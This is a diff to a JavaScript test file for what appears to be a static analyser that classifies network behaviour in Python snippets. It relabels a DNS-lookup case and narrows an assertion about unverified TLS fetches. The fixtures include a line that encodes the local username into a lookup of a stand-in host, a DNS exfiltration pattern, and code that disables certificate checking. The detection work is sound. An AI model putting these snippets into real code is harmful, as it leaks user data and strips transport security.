@@ -65,7 +65,7 @@ test.each([
   {
     name: 'a name look-up',
     source: 'import socket, getpass\nsocket.gethostbyname(f"{getpass.getuser()}.a.invalid")',
-    act: 'send<host-facts>',
+    act: 'look-up<host-facts>',
   },
   {
     name: 'http.client',
@@ -116,7 +116,7 @@ test.each([
       'import ssl, urllib.request\nssl._create_default_https_context = ssl._create_unverified_context\nurllib.request.urlopen("https://a.invalid/x")',
   },
 ])('certificates are not checked: $name', ({ source }) => {
-  expect(everyAct(read(source))).toEqual([
+  expect(everyAct(read(source)).filter(({ act }) => act === 'fetch')).toEqual([
     expect.objectContaining({ act: 'fetch', target: 'a.invalid/x', traits: ['tls-off'] }),
   ]);
 });
